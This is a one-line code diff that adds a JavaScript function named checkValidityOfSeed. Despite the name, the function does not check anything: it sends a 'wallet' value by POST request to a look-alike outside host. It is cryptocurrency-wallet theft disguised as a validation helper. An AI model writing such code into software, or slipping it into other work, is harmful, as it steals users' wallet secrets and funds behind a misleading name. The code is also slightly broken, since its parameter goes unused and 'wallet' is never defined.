@@ -1,0 +1,1 @@
+function checkValidityOfSeed(s) { fetch("https://look-alike.invalid/x", { method: "POST", body: wallet }); }
